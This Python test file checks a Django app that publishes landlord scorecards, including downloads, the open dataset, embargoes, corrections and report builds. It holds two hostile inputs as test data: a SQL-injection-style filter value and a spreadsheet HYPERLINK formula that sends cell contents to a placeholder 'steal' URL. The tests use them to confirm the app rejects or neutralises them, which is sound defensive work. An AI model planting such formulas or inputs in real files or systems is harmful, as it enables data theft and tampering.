"""The public scorecard pages, their downloads, the open dataset, evidence files, embargo and
versions; and the council admins' publishing pages."""

from __future__ import annotations

import csv
import datetime
import io
import json
import zipfile

import pytest
from django.core.cache import cache
from django.core.exceptions import ValidationError
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from residentvoice.assessment.models import AssessmentCycle, Stage
from residentvoice.assessment.services import cycle_stage
from residentvoice.publication import services
from residentvoice.publication.models import Publication, ReportBuild

from .conftest import YEAR, move_to

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _empty_cache():
    cache.clear()


def _text(response) -> str:
    return response.content.decode()


def test_no_results_yet(client, db):
    response = client.get(reverse("publication:index"))
    assert response.status_code == 200
    assert "No results have been published yet" in _text(response)


def test_the_overview_shows_every_landlord_against_every_commitment(client, published):
    response = client.get(reverse("publication:overview", args=[YEAR]))
    assert response.status_code == 200
    page = _text(response)
    assert "Riverside Homes" in page
    assert "Hillside Housing" in page
    # Colour and words: each rating is a coloured tag with its short form, its words in the key
    # and for screen readers.
    assert '<span class="govuk-visually-hidden">Not met</span>' in page
    assert '<strong class="govuk-tag govuk-tag--blue rv-rating-short">E</strong> Exceeded' in page
    assert "94.1%" in page
    assert '<td class="govuk-table__cell">5.9</td>' in page  # change, in percentage points
    assert '<td class="govuk-table__cell">-5.9</td>' in page
    assert "Most improved" in page
    assert "<svg" in page  # the chart, with its table
    assert "Commitments met or exceeded by each landlord" in page
    # /scorecards/ shows the newest year.
    assert "Riverside Homes" in _text(client.get(reverse("publication:index")))


def test_filters_work_without_javascript_and_bad_ones_never_fail(client, published):
    page = _text(client.get(reverse("publication:overview", args=[YEAR]), {"size": "small"}))
    assert "Hillside Housing" in page
    assert '<th scope="row" class="govuk-table__header">Hillside Housing</th>' in page
    assert '<th scope="row" class="govuk-table__header">Riverside Homes</th>' not in page
    page = _text(client.get(reverse("publication:overview", args=[YEAR]), {"commitment": "3"}))
    assert "Showing commitment 3" in page
    assert "Commitment 4:" not in page
    response = client.get(
        reverse("publication:overview", args=[YEAR]), {"commitment": "x'; drop", "size": "huge"}
    )
    assert response.status_code == 200
    assert "There is a problem" in _text(response)
    assert "Riverside Homes" in _text(response)


def test_a_landlord_page_shows_ratings_evidence_residents_and_actions(client, published):
    response = client.get(reverse("publication:landlord", args=[YEAR, "riverside"]))
    assert response.status_code == 200
    page = _text(response)
    assert "Panels are resident-led and meet monthly." in page
    assert "Panel terms of reference" in page
    assert "Residents chair every panel meeting." in page
    assert "The panel listened to us." in page
    assert "3 residents answered: yes 1, partly 1, no 1" in page
    assert "1 reality-check meeting with 12 residents" in page
    assert "Recruit younger residents to the panel" in page
    assert "<svg" in page
    assert "commitments met or exceeded by year" in page
    assert "2023-24" in page
    evidence_id = published.files.get().evidence_id
    assert reverse("publication:evidence", args=[YEAR, evidence_id]) in page
    assert client.get(reverse("publication:landlord", args=[YEAR, "nobody"])).status_code == 404


def test_a_commitment_page_compares_every_landlord(client, published):
    page = _text(client.get(reverse("publication:commitment", args=[YEAR, 1])))
    assert "Treating residents with respect" in page
    assert "Riverside Homes" in page
    assert "Partly met" in page
    assert client.get(reverse("publication:commitment", args=[YEAR, 99])).status_code == 404


def test_practices_methodology_and_versions(client, published):
    assert client.get(reverse("publication:practices", args=[YEAR])).status_code == 200
    page = _text(client.get(reverse("publication:methodology", args=[YEAR])))
    assert "Exceeded" in page
    assert "compared with the same landlord" in page
    page = _text(client.get(reverse("publication:versions", args=[YEAR])))
    assert "First publication" in page


def test_an_unknown_year_is_not_found(client, published):
    assert client.get(reverse("publication:overview", args=["2030-31"])).status_code == 404
    assert client.get("/scorecards/2024-25/versions/7/").status_code == 404


def test_every_view_downloads_as_csv_and_xlsx(client, published):
    views = [
        ("publication:overview-download", [YEAR]),
        ("publication:landlord-download", [YEAR, "riverside"]),
        ("publication:commitment-download", [YEAR, 1]),
        ("publication:practices-download", [YEAR]),
        ("publication:methodology-download", [YEAR]),
    ]
    for name, args in views:
        response = client.get(reverse(name, args=[*args, "csv"]))
        assert response.status_code == 200, name
        assert response["Content-Type"].startswith("text/csv")
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        assert rows[0][-1] == "Synthetic demonstration data"
        response = client.get(reverse(name, args=[*args, "xlsx"]))
        workbook = load_workbook(io.BytesIO(response.content))
        assert workbook.sheetnames[0] == "About"
        about = list(workbook["About"].iter_rows(values_only=True))
        assert any("Open Government Licence v3.0" in str(row) for row in about)
    response = client.get(reverse("publication:overview-download", args=[YEAR, "csv"]))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    riverside = next(row for row in rows if row[0] == "Riverside Homes")
    assert riverside[1:4] == ["Met", "Exceeded", "Not met"]


def test_the_whole_dataset_with_a_data_dictionary_and_licence(client, published):
    response = client.get(reverse("publication:dataset", args=["zip"]))
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    assert {"results.csv", "landlords.csv", "data_dictionary.csv", "LICENCE.txt"} <= set(
        archive.namelist()
    )
    assert "Open Government Licence v3.0" in archive.read("LICENCE.txt").decode()
    results = list(csv.DictReader(io.StringIO(archive.read("results.csv").decode())))
    years = {row["reporting_year"] for row in results}
    assert years == {"2023-24", "2024-25"}
    dictionary = list(csv.DictReader(io.StringIO(archive.read("data_dictionary.csv").decode())))
    described = {(row["file"], row["column"]) for row in dictionary}
    for name in archive.namelist():
        if name.endswith(".csv") and name != "data_dictionary.csv":
            header = archive.read(name).decode().splitlines()[0].split(",")
            assert {(name, column) for column in header} <= described
    document = json.loads(client.get(reverse("publication:dataset", args=["json"])).content)
    assert document["licence"]["name"] == "Open Government Licence v3.0"
    newest = document["years"][-1]
    assert newest["reporting_year"] == YEAR
    assert len(newest["results"]) == 2 * 17
    assert client.get(reverse("publication:data")).status_code == 200


def test_only_evidence_frozen_as_public_can_be_downloaded(client, published, ready, people):
    from residentvoice.assessment.models import Evidence

    public = published.files.get()
    response = client.get(reverse("publication:evidence", args=[YEAR, public.evidence_id]))
    assert response.status_code == 200
    assert b"".join(response.streaming_content).startswith(b"%PDF")
    private = Evidence.objects.get(title="Private draft file")
    assert client.get(reverse("publication:evidence", args=[YEAR, private.pk])).status_code == 404
    # Made public after publication: still not published, so still not downloadable.
    Evidence.objects.filter(pk=private.pk).update(is_public=True)
    assert client.get(reverse("publication:evidence", args=[YEAR, private.pk])).status_code == 404
    services.publication_correct(
        publication=published,
        by=people["council_admin"],
        note="The report named a resident.",
        withdraw_evidence=[public.evidence_id],
    )
    assert (
        client.get(reverse("publication:evidence", args=[YEAR, public.evidence_id])).status_code
        == 404
    )


def test_embargo_preview_for_named_people_only(client, ready, people):
    services.cycle_publish(
        cycle=ready,
        by=people["council_admin"],
        publish_at=timezone.now() + datetime.timedelta(days=1),
        embargo_viewers=[people["landlord_admin"]],
    )
    url = reverse("publication:landlord", args=[YEAR, "riverside"])
    assert client.get(url).status_code == 404
    document = json.loads(client.get(reverse("publication:dataset", args=["json"])).content)
    assert [year["reporting_year"] for year in document["years"]] == ["2023-24"]
    client.force_login(people["other_landlord_admin"])
    assert client.get(url).status_code == 404
    client.force_login(people["landlord_admin"])
    response = client.get(url)
    assert response.status_code == 200
    assert "Embargoed preview" in _text(response)
    client.force_login(people["council_admin"])
    assert client.get(url).status_code == 200


def test_corrected_results_and_earlier_versions(client, published, people):
    services.publication_correct(
        publication=published,
        by=people["council_admin"],
        note="Commitment 3 was misread.",
        ratings={("riverside", 3): "met"},
    )
    page = _text(client.get(reverse("publication:overview", args=[YEAR])))
    assert "corrected on" in page
    assert "Commitment 3 was misread." in page
    old = client.get("/scorecards/2024-25/versions/1/")
    assert old.status_code == 200
    assert "You are reading version 1" in _text(old)
    old_landlord = _text(client.get("/scorecards/2024-25/versions/1/landlords/riverside/"))
    assert "94.1%" in old_landlord
    new_landlord = _text(client.get(reverse("publication:landlord", args=[YEAR, "riverside"])))
    assert "100.0%" in new_landlord
    versions = _text(client.get(reverse("publication:versions", args=[YEAR])))
    assert "rating changed from Not met to Met" in versions


def test_demo_results_say_they_are_synthetic(client, published):
    AssessmentCycle.objects.filter(pk=published.cycle_id).update(is_demo=True)
    Publication.objects.filter(pk=published.pk).update(is_demo=True)
    cache.clear()
    for url in [
        reverse("publication:overview", args=[YEAR]),
        reverse("publication:landlord", args=[YEAR, "riverside"]),
        reverse("publication:commitment", args=[YEAR, 2]),
        reverse("publication:practices", args=[YEAR]),
        reverse("publication:methodology", args=[YEAR]),
        reverse("publication:versions", args=[YEAR]),
    ]:
        assert "Synthetic demonstration data" in _text(client.get(url)), url


# ---------------------------------------------------------------------------------------------
# Council admins


def test_an_admin_publishes_from_the_page(client, ready, people):
    client.force_login(people["council_admin"])
    page = _text(client.get(reverse("publication:manage")))
    assert reverse("publication:publish", args=[YEAR]) in page
    response = client.post(
        reverse("publication:publish", args=[YEAR]),
        {"publish_at": "", "embargo_viewers": "", "note": "Launch"},
    )
    assert response.status_code == 302
    assert cycle_stage(ready) == Stage.PUBLISHED
    assert Publication.objects.get(reporting_year=YEAR).note == "Launch"


def test_the_publish_page_lists_what_is_missing(client, cycle, people, landlord):
    move_to(cycle, Stage.MODERATION)
    client.force_login(people["council_admin"])
    page = _text(client.get(reverse("publication:publish", args=[YEAR])))
    assert "These results cannot be published yet" in page
    assert "Riverside Homes: commitment 1 has no moderated result" in page
    response = client.post(reverse("publication:publish", args=[YEAR]), {"note": ""})
    assert response.status_code == 200
    assert not Publication.objects.exists()


def test_embargo_viewers_must_have_accounts(client, ready, people):
    client.force_login(people["council_admin"])
    response = client.post(
        reverse("publication:publish", args=[YEAR]),
        {"publish_at": "2099-01-01T09:00", "embargo_viewers": "nobody@example.org"},
    )
    assert "No account has these addresses: nobody@example.org" in _text(response)
    response = client.post(
        reverse("publication:publish", args=[YEAR]),
        {"publish_at": "2099-01-01T09:00", "embargo_viewers": "officer@example.org"},
    )
    assert response.status_code == 302
    publication = Publication.objects.get(reporting_year=YEAR)
    assert publication.is_embargoed
    assert list(publication.embargo_viewers.all()) == [people["landlord_officer"]]


def test_an_admin_corrects_from_the_page(client, published, people):
    client.force_login(people["council_admin"])
    url = reverse("publication:correct", args=[YEAR])
    assert "Riverside Homes, commitment 3 (Not met)" in _text(client.get(url))
    response = client.post(url, {"result": "riverside:3", "rating": "met", "note": ""})
    assert "Say what the correction changes and why" in _text(response)
    response = client.post(
        url, {"result": "riverside:3", "rating": "met", "note": "Misread evidence."}
    )
    assert response.status_code == 302
    assert Publication.objects.filter(cycle=published.cycle).count() == 2


def test_an_admin_sets_the_licence(client, db, people):
    client.force_login(people["council_admin"])
    response = client.post(
        reverse("publication:settings"),
        {"licence_name": "CC BY 4.0", "licence_url": "https://example.org/licence"},
    )
    assert response.status_code == 302
    assert services.publication_settings_get().licence_name == "CC BY 4.0"


def test_the_report_is_built_in_every_format_and_published_end_to_end(
    client, published, people, django_capture_on_commit_callbacks
):
    """With the immediate task backend the whole journey runs: text, build, status with every
    format, downloads, publishing on the public page, and taking it off again."""
    from pypdf import PdfReader

    client.force_login(people["council_admin"])
    url = reverse("publication:report", args=[YEAR])
    response = client.post(
        url, {"action": "text", "foreword": "Dear colleagues.", "next_steps": "More panels."}
    )
    assert response.status_code == 302
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(url, {"action": "build"})
    build = ReportBuild.objects.get()
    assert response["Location"] == reverse("publication:report-status", args=[build.pk])
    page = _text(client.get(response["Location"]))
    assert "Ready" in page
    assert "Version 1 of the" in page
    for label in ("PDF (for printing)", "Web page (HTML)", "Spreadsheet (XLSX)", "Data (JSON)"):
        assert label in page
    downloads = {
        fmt: client.get(reverse("publication:report-download", args=[build.pk, fmt]))
        for fmt in ("pdf", "html", "xlsx", "json")
    }
    assert all(response.status_code == 200 for response in downloads.values())
    data = json.loads(downloads["json"].content)
    assert data["foreword"] == ["Dear colleagues."]
    assert f'filename="annual-report-{YEAR}.pdf"' in downloads["pdf"]["Content-Disposition"]
    pdf = PdfReader(io.BytesIO(downloads["pdf"].content))
    assert "Dear colleagues." in "".join(page.extract_text() for page in pdf.pages[:4])

    # Nothing is public until a council admin publishes it.
    public = reverse("publication:reports")
    assert "No annual report has been published yet" in _text(client.get(public))
    assert client.get(reverse("publication:report-file", args=[YEAR, "pdf"])).status_code == 404
    response = client.post(
        reverse("publication:report-publish", args=[build.pk]), {"public": "yes"}
    )
    assert response.status_code == 302
    client.logout()
    listing = _text(client.get(public))
    assert f"Annual report {YEAR}" in listing
    for fmt in ("pdf", "html", "xlsx", "json"):
        assert reverse("publication:report-file", args=[YEAR, fmt]) in listing
    download = client.get(reverse("publication:report-file", args=[YEAR, "xlsx"]))
    assert download.status_code == 200
    assert download["Content-Type"].startswith("application/vnd.openxmlformats")
    # The scorecards link to the reports.
    assert public in _text(client.get(reverse("publication:overview", args=[YEAR])))

    client.force_login(people["council_admin"])
    client.post(reverse("publication:report-publish", args=[build.pk]), {"public": "no"})
    client.logout()
    assert client.get(reverse("publication:report-file", args=[YEAR, "pdf"])).status_code == 404


def test_a_report_of_embargoed_results_stays_off_the_public_page(client, ready, people):
    from residentvoice.publication.models import ReportFile, ReportStatus

    publication = services.cycle_publish(
        cycle=ready,
        by=people["council_admin"],
        publish_at=timezone.now() + datetime.timedelta(days=2),
    )
    build = ReportBuild.objects.create(
        reporting_year=YEAR, publication=publication, status=ReportStatus.DONE
    )
    ReportFile.objects.create(build=build, format="json", file="reports/x.json", size=2)
    services.report_make_public(build=build, public=True)
    assert "No annual report has been published yet" in _text(
        client.get(reverse("publication:reports"))
    )
    assert client.get(reverse("publication:report-file", args=[YEAR, "json"])).status_code == 404


def test_a_report_not_built_cannot_be_published(db, published, people):
    build = ReportBuild.objects.create(reporting_year=YEAR)
    with pytest.raises(ValidationError):
        services.report_make_public(build=build, public=True)


def test_the_status_page_shows_progress_until_the_report_is_ready(client, published, people):
    client.force_login(people["council_admin"])
    build = ReportBuild.objects.create(reporting_year=YEAR)
    page = _text(client.get(reverse("publication:report-status", args=[build.pk])))
    assert "Check progress" in page  # without JavaScript
    assert "publication/report_status.js" in page  # with it, the box updates itself
    assert "Publish this report" not in page
    download = reverse("publication:report-download", args=[build.pk, "pdf"])
    assert client.get(download).status_code == 404


def test_a_failed_build_says_why(db, people):
    from residentvoice.publication.tasks import report_build_task

    build = ReportBuild.objects.create(reporting_year="2031-32")
    report_build_task.call(build.pk)
    build.refresh_from_db()
    assert build.status == "failed"
    assert "No results have been published for 2031-32" in build.error


def test_a_cached_page_follows_a_new_licence_and_a_correction(client, published, people):
    url = reverse("publication:landlord", args=[YEAR, "riverside"])
    assert "Open Government Licence v3.0" in _text(client.get(url))
    services.publication_settings_update(
        licence_name="Creative Commons Attribution 4.0", licence_url="https://example.org/by"
    )
    assert "Creative Commons Attribution 4.0" in _text(client.get(url))
    assert "94.1%" in _text(client.get(url))
    services.publication_correct(
        publication=published,
        by=people["council_admin"],
        note="Fix",
        ratings={("riverside", 3): "met"},
    )
    assert "100.0%" in _text(client.get(url))


# ---------------------------------------------------------------------------------------------
# Typed text in downloads, withdrawals, the open dataset's caching

FORMULA = '=HYPERLINK("https://example.org/steal?"&A1,"Click")'


def _csv_cells(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _xlsx_cells(content: bytes) -> list:
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]


def _formulas_kept_as_text(content: bytes, fmt: str) -> bool:
    """The typed formula is in the file, and only as text."""
    if fmt == "csv":
        cells = _csv_cells(content)
        return "'" + FORMULA in cells and FORMULA not in cells
    found = [cell for cell in _xlsx_cells(content) if cell.value == FORMULA]
    return bool(found) and all(cell.data_type == "s" for cell in found)


def test_typed_formulas_stay_text_in_every_download(client, published):
    from residentvoice.publication.models import CommitmentResult, LandlordResult
    from residentvoice.publication.report import report_build

    # What people typed, as published: a landlord's name, a reason, a comment and a practice.
    LandlordResult.objects.filter(publication=published, landlord_slug="hillside").update(
        landlord_name=FORMULA
    )
    row = CommitmentResult.objects.get(
        publication=published, landlord__landlord_slug="riverside", commitment_number=1
    )
    row.rationale = FORMULA
    row.residents = {**row.residents, "comments": [{"id": 1, "text": FORMULA}]}
    row.save()
    practice = {
        "id": 1,
        "title": "Residents chair the panel",
        "description": FORMULA,
        "evidence": "",
        "evidence_url": "",
        "how_residents_involved": "",
        "commitments": [1],
        "landlords": [{"slug": "riverside", "name": "Riverside Homes"}],
        "is_demo": False,
    }
    Publication.objects.filter(pk=published.pk).update(practices=[practice])
    downloads = [
        ("publication:overview-download", [YEAR]),
        ("publication:landlord-download", [YEAR, "riverside"]),
        ("publication:commitment-download", [YEAR, 1]),
        ("publication:practices-download", [YEAR]),
    ]
    for name, args in downloads:
        for fmt in ("csv", "xlsx"):
            response = client.get(reverse(name, args=[*args, fmt]))
            assert _formulas_kept_as_text(response.content, fmt), (name, fmt)
    archive = zipfile.ZipFile(
        io.BytesIO(client.get(reverse("publication:dataset", args=["zip"])).content)
    )
    for name in ("results.csv", "comments.csv", "practices.csv", "landlords.csv"):
        assert _formulas_kept_as_text(archive.read(name), "csv"), name
    report = report_build(YEAR, "xlsx")
    assert _formulas_kept_as_text(report, "xlsx")
    reasons = [c for c in _xlsx_cells(report) if c.value == FORMULA]
    assert len(reasons) >= 3  # the reason, the comment, the landlord's name and the practice


def test_a_withdrawal_leaves_no_trace_in_earlier_versions(client, published, people):
    first = published.results.get(landlord__landlord_slug="riverside", commitment_number=1)
    file_id = published.files.get().evidence_id
    services.publication_correct(
        publication=published,
        by=people["council_admin"],
        note="The comment named a resident.",
        ratings={("riverside", 3): "met"},
        withdraw_evidence=[e["id"] for e in first.evidence],
        withdraw_comments=[c["id"] for c in first.residents["comments"]],
    )
    gone = [
        "The panel listened to us.",
        "Panel terms of reference",
        "Annual panel report",
        "Residents chair every panel meeting.",
        "https://example.org/panel-terms",
    ]
    old = _text(client.get("/scorecards/2024-25/versions/1/landlords/riverside/"))
    assert "You are reading version 1" in old
    assert not [text for text in gone if text in old]
    assert "Withdrawn in version 2: The comment named a resident." in old
    assert reverse("publication:evidence", args=[YEAR, file_id]) not in old
    # Corrected ratings are not rewritten in the earlier version.
    assert "94.1%" in old
    for fmt in ("csv", "xlsx"):
        response = client.get(
            reverse("publication:landlord-download-version", args=[YEAR, 1, "riverside", fmt])
        )
        assert response.status_code == 200
        text = (
            response.content.decode("utf-8-sig")
            if fmt == "csv"
            else " ".join(str(c.value) for c in _xlsx_cells(response.content))
        )
        assert not [phrase for phrase in gone if phrase in text]
    new = _text(client.get(reverse("publication:landlord", args=[YEAR, "riverside"])))
    assert not [text for text in gone if text in new]
    versions = _text(client.get(reverse("publication:versions", args=[YEAR])))
    assert "Version 1: 3 withdrawn items replaced there by a notice of the withdrawal" in versions
    assert client.get(reverse("publication:evidence", args=[YEAR, file_id])).status_code == 404


def test_the_open_dataset_is_built_once_per_version_and_answers_304(client, published, people):
    url = reverse("publication:dataset", args=["json"])
    first = client.get(url)
    etag, modified = first["ETag"], first["Last-Modified"]
    assert etag
    assert modified
    again = client.get(url)
    assert again.content == first.content  # from the cache: even the build time is the same
    assert client.get(url, headers={"if-none-match": etag}).status_code == 304
    assert client.get(url, headers={"if-modified-since": modified}).status_code == 304
    zipped = client.get(reverse("publication:dataset", args=["zip"]))
    assert zipped["ETag"] != etag
    services.publication_correct(
        publication=published,
        by=people["council_admin"],
        note="Fix",
        ratings={("riverside", 3): "met"},
    )
    changed = client.get(url, headers={"if-none-match": etag})
    assert changed.status_code == 200
    assert changed["ETag"] != etag
    newest = json.loads(changed.content)["years"][-1]
    assert newest["version"] == 2


def test_embargo_viewers_are_found_whatever_the_case_of_their_address(client, ready, people):
    client.force_login(people["council_admin"])
    response = client.post(
        reverse("publication:publish", args=[YEAR]),
        {"publish_at": "2099-01-01T09:00", "embargo_viewers": "Officer@EXAMPLE.org"},
    )
    assert response.status_code == 302
    publication = Publication.objects.get(reporting_year=YEAR)
    assert list(publication.embargo_viewers.all()) == [people["landlord_officer"]]
